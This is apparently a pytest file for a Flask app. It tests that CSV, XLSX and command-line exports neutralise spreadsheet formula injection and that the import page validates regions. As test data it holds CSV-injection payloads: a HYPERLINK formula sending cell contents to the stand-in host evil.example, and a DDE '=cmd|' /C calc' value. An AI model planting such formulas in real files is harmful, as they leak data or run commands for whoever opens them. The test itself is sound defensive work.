"""Spreadsheet-safe exports (issue 12, deliverable 4): a hostile pool, every CSV and XLSX
download read back, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient
from network_helpers import BEARER, admin_app, sign_in, submit_assessment, upload
from openpyxl import load_workbook
from web_helpers import text

from benchmark.names import clean_name
from benchmark.pool import load_pool, save_pool
from web import storage
from web.cli import cli

#: Cell starts a spreadsheet reads as a formula (OWASP, CSV injection).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: Names that try it; the import strips a cell's spaces, so the tab and carriage return ones
#: reach the pool through storage.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "-Town",
)
HOSTILE_STORED = ("\t=1", "\r=1")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture
def admin(tmp_path: Path) -> Iterator[Flask]:
    app = admin_app(tmp_path)
    yield app
    storage.dispose(app)


def _template_rows(client: FlaskClient) -> tuple[list[str], dict[str, str]]:
    template = client.get("/network/import/template.csv").data.decode("utf-8")
    header, _allowed, example = list(csv.reader(io.StringIO(template)))
    return header, dict(zip(header, example, strict=True))


def _hostile_survey(client: FlaskClient) -> bytes:
    header, example = _template_rows(client)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=["id", *header], lineterminator="\r\n")
    writer.writeheader()
    for n, name in enumerate(HOSTILE):
        row = {**example, "name": name, "consent_named": "yes"}
        writer.writerow({**row, "id": f"=cmd|' /C calc'!A{n}"})
    return out.getvalue().encode("utf-8")


def _store_hostile(app: Flask, client: FlaskClient) -> None:
    """The hostile names through the import page, and the rest straight into storage."""
    done = upload(client, _hostile_survey(client), "hostile.csv")
    assert done.status_code == 303, text(done)
    with app.app_context():
        imported = [r for r in storage.load_pool() if r.profile.name == HOSTILE[1]]
        copies = [
            imported[0].model_copy(
                update={
                    "id": f"stored-{n}",
                    "profile": imported[0].profile.model_copy(update={"name": name}),
                }
            )
            for n, name in enumerate(HOSTILE_STORED)
        ]
        storage.add_pool_records(records=copies)
        names = {r.profile.name for r in storage.load_pool()}
    assert names >= {*HOSTILE, *HOSTILE_STORED}


@pytest.fixture
def hostile(admin: Flask) -> FlaskClient:
    """A signed-in client of an app whose pool holds the hostile names, one of them a
    submitted assessment."""
    client = admin.test_client()
    submit_assessment(client, admin, sharing="named", name=HOSTILE[0])
    sign_in(client)
    _store_hostile(admin, client)
    return client


def _assert_no_formula_in_csv(body: str, where: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline="")))
    assert len(rows) > 1, where
    for line, row in enumerate(rows, start=1):
        for cell in row:
            if PLAIN_NUMBER.fullmatch(cell):
                continue  # a number, negative or not, is data
            assert not cell.startswith(TRIGGERS), f"{where}, line {line}: live cell {cell!r}"
    return rows


def _assert_no_formula_in_xlsx(data: bytes, where: str) -> list[list[object]]:
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}, {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
            values.append([cell.value for cell in row])
    return values


def _quoted(name: str) -> str:
    return "'" + name


def test_every_csv_download_of_a_hostile_pool_has_no_live_formula(
    hostile: FlaskClient, admin: Flask
) -> None:
    with admin.app_context():
        submitted = [r for r in storage.load_pool() if r.source == "submitted"]
    assert submitted  # the submitted assessment's results CSV is checked below too
    downloads = [
        "/network/members.csv",
        "/network/export/aggregates.csv",
        "/network/import/template.csv",
    ]
    bodies = {}
    for url in downloads:
        response = hostile.get(url, headers=BEARER)
        assert response.status_code == 200, url
        bodies[url] = _assert_no_formula_in_csv(response.get_data(as_text=True), url)
    names = {row[0] for row in bodies["/network/members.csv"][1:]}
    assert names >= {_quoted(n) for n in (*HOSTILE, *HOSTILE_STORED)}  # kept, neutralised


def test_the_results_csv_of_an_assessment_has_no_live_formula(admin: Flask) -> None:
    client = admin.test_client()
    token = submit_assessment(client, admin, sharing="named", name=HOSTILE[0])
    response = client.get(f"/a/{token}/results.csv")
    assert response.status_code == 200
    _assert_no_formula_in_csv(response.get_data(as_text=True), "results.csv")


def test_every_xlsx_download_of_a_hostile_pool_keeps_text_as_text(hostile: FlaskClient) -> None:
    members = hostile.get("/network/members.xlsx", headers=BEARER)
    assert members.status_code == 200
    values = _assert_no_formula_in_xlsx(members.data, "members.xlsx")
    names = {row[0] for row in values[1:]}
    # the text as it is, stored as text (XML reads a carriage return back as a line feed)
    assert names >= {n.replace("\r", "\n") for n in (*HOSTILE, *HOSTILE_STORED)}
    template = hostile.get("/network/import/template.xlsx")
    assert template.status_code == 200
    _assert_no_formula_in_xlsx(template.data, "template.xlsx")


def test_the_cli_pool_export_of_a_hostile_pool_has_no_live_formula(
    hostile: FlaskClient, admin: Flask, tmp_path: Path
) -> None:
    with admin.app_context():
        records = storage.load_pool()
    pool = tmp_path / "hostile.jsonl"
    save_pool(records, pool)
    exported = tmp_path / "hostile.csv"
    runner = CliRunner()
    result = runner.invoke(
        cli, ["pool", "export", str(pool), "-o", str(exported), "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    rows = _assert_no_formula_in_csv(exported.read_bytes().decode("utf-8"), "pool export")
    header = rows[0]
    names = {row[header.index("name")] for row in rows[1:]}
    assert names >= {_quoted(n) for n in (*HOSTILE, *HOSTILE_STORED)}
    ids = {row[0] for row in rows[1:]}
    assert "'=cmd|' /C calc'!A1" in ids
    again = tmp_path / "again.jsonl"
    result = runner.invoke(cli, ["pool", "import", str(exported), "-o", str(again)])
    assert result.exit_code == 0, result.output
    reimported = {r.id: r.profile.name for r in load_pool(again)}
    # The quote is taken off again on import: an exported file imports as it was, its names
    # cleaned as every imported name is (a tab or CR before "=1" is not part of a name).
    assert reimported == {r.id: clean_name(r.profile.name) for r in records}


def test_the_import_page_refuses_a_region_that_contradicts_the_country(admin: Flask) -> None:
    client = admin.test_client()
    sign_in(client)
    header, example = _template_rows(client)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=[*header, "region"], lineterminator="\r\n")
    writer.writeheader()
    writer.writerow({**example, "name": "Grenzstadt", "country": "DE", "region": "Asia"})
    before = len(_pool_names(admin))
    response = upload(client, out.getvalue().encode("utf-8"), "survey.csv")
    assert response.status_code == 400
    assert (
        "Line 2 (Grenzstadt), column region: DE is in 'Western Europe', not 'Asia'; "
        "leave region empty and it is filled from the country"
    ) in text(response)
    assert len(_pool_names(admin)) == before  # nothing imported


def _pool_names(app: Flask) -> list[str]:
    with app.app_context():
        return [r.profile.name for r in storage.load_pool()]
